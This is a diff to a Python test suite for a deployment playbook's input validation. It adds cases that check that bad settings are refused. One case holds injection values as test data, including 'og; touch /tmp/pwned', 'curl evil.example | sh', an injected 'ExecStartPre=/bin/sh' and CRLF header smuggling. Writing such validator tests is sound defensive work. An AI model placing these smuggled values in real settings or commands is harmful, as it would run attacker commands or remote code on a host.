@@ -125,6 +125,46 @@ BAD_INPUTS = [
      ["covers every IPv4 address (0.0.0.0/0)", "use opengram_access_modes: [public]"]),
     ("access-networks-slash-zero", {"opengram_access_modes": ["networks"], "opengram_access_networks": ["::/0"]},
      ["covers every IPv6 address (::/0)"]),
+    # ---- issue 14: input that cannot hurt, one run per class, every message checked ----
+    ("port-privileged-ssh", {"opengram_port": 22},
+     ["opengram_port='22' is a privileged port (below 1024)", "shut you out of SSH",
+      "Use a free port from 1024 to 65535, e.g. opengram_port: 3000"]),
+    ("extra-env-overrides-owned", {"opengram_env_extra": {"OPENGRAM_TRUST_PROXY_HEADERS": "false",
+                                                          "OPENGRAM_INSTANCE_SECRET": SECRET_LINE,
+                                                          "OPENAI API KEY": "x"}},
+     ["opengram_env_extra sets OPENGRAM_TRUST_PROXY_HEADERS, which the playbook owns",
+      "opengram_env_extra sets OPENGRAM_INSTANCE_SECRET, which the playbook owns",
+      "set opengram_instance_secret instead", "key 'OPENAI API KEY' is not an environment variable name"]),
+    ("extra-config-overrides-owned", {"opengram_config_extra": {"security": {"readEndpointsRequireInstanceSecret": False},
+                                                                "server": {"port": 4000}, "branding": {"title": "ok"}}},
+     ["opengram_config_extra sets security.readEndpointsRequireInstanceSecret, which the playbook owns",
+      "opengram_config_extra sets server.port, which the playbook owns", "set opengram_port instead"]),
+    ("trust-every-address", {"opengram_trusted_proxies": ["0.0.0.0/0", "cdn"]},
+     ["opengram_trusted_proxies=['0.0.0.0/0'] covers every IPv4 address", "every client could name its own address",
+      "opengram_trusted_proxies entry 'cdn' is not a CIDR range"]),
+    ("names-cannot-inject", {"opengram_user": "og; touch /tmp/pwned", "opengram_service_name": "opengram\nExecStartPre=/bin/sh",
+                             "opengram_acme_email": "admin@example.com\n  acme_ca https://evil.example",
+                             "opengram_trusted_proxy_header": "X-Real-IP\r\nX-Evil: 1",
+                             "opengram_public_base_url": "https://opengram.test\"; evil",
+                             "opengram_npm_package": "@opengramsh/opengram; curl evil.example | sh",
+                             "opengram_agents": [{"id": "a'b", "name": "A", "model": "default"}],
+                             "nginx_proxy_read_timeout": "1h; return 200"},
+     ["opengram_user='og; touch /tmp/pwned' is not a system user name", "is not a systemd unit name",
+      "is not an email address", "is not an HTTP header name", "is not a plain URL", "is not an npm package name",
+      "opengram_agents[0].id=\"a'b\" is not a usable id", "nginx_proxy_read_timeout='1h; return 200' is not an nginx time"]),
+    ("paths-system-overlapping-unsafe", {"opengram_home": "/", "opengram_install_dir": "/srv/open gram",
+                                         "opengram_backup_dir": "/etc/opengram/backups"},
+     ["opengram_home='/' is a system directory", "opengram_install_dir='/srv/open gram' is not a plain absolute path",
+      "opengram_backup_dir='/etc/opengram/backups' and opengram_config_dir='/etc/opengram' overlap"]),
+    ("types-and-ranges", {"opengram_firewall": "maybe", "opengram_backup_keep": -1, "opengram_health_timeout": "soon",
+                          "nginx_ssl_protocols": "TLSv1 TLSv1.2", "opengram_build_packages": ["g++", "make;id"]},
+     ["opengram_firewall='maybe' is not a boolean", "opengram_backup_keep=-1 is out of range: use 0 to 10000 archives",
+      "opengram_health_timeout='soon' is not a whole number", "nginx_ssl_protocols='TLSv1 TLSv1.2' is not TLSv1.2",
+      "['make;id'] are not Debian package names"]),
+    ("misspelled-variable", {"opengram_prot": 3001},
+     ["opengram_prot is not a variable of opengram-deploy (did you mean opengram_port?)"]),
+    ("secret-too-weak", {"opengram_instance_secret": "og_short"},
+     ["opengram_instance_secret (value not shown: it is a secret) is too weak", "at least 16 characters"]),
 ]
 
 
@@ -182,6 +222,25 @@ def test_every_problem_is_reported_at_once(snapshot, hostname):
         assert name in text
 
 
+def test_a_port_another_service_listens_on_is_refused(host, snapshot, hostname):
+    """A port some other service on the host already uses (here a listener of
+    root's on 127.0.0.1:8025) is refused with its address; the service keeps it."""
+    host.check_output("setsid python3 -m http.server 8025 --bind 127.0.0.1 >/dev/null 2>&1 < /dev/null &")
+    try:
+        deadline = time.monotonic() + 30
+        while ":8025 " not in host.check_output("ss -Htln") and time.monotonic() < deadline:
+            time.sleep(0.2)
+        assert ":8025 " in host.check_output("ss -Htln"), "the stand-in service did not start listening"
+        before = snapshot.mark()
+        run = run_playbook("-e", json.dumps({"opengram_port": 8025}))
+        text = refused_without_change(run, snapshot, before, hostname)
+        assert "opengram_port='8025' is already in use on this host by another service (127.0.0.1:8025)" in text, \
+            output(run)[-3000:]
+        assert "e.g. opengram_port: 3000" in text
+    finally:
+        host.run("pkill -f 'http.server 8025'")
+
+
 def test_distinct_bad_inputs_cover_the_list():
     assert len({i for i, _, _ in BAD_INPUTS}) >= 15
 
@@ -214,7 +273,9 @@ def test_converge_the_fresh_host(host, hostname):
     assert host.service("opengram").is_running and host.service("opengram-firewall").is_running
 
 
-def test_check_mode_on_the_converged_host_reports_no_change(hostname):
+def test_check_mode_on_the_converged_host_reports_no_change(host, hostname):
+    # Opengram itself holds its port now: the preflight tells it from another service's.
+    assert ":3000 " in host.check_output("ss -Htln")
     run = run_playbook("--check", "--diff", "-e", json.dumps({"opengram_proxy": "none"}))
     assert run.returncode == 0, output(run)[-4000:]
     counters = recap(run.stdout, hostname)
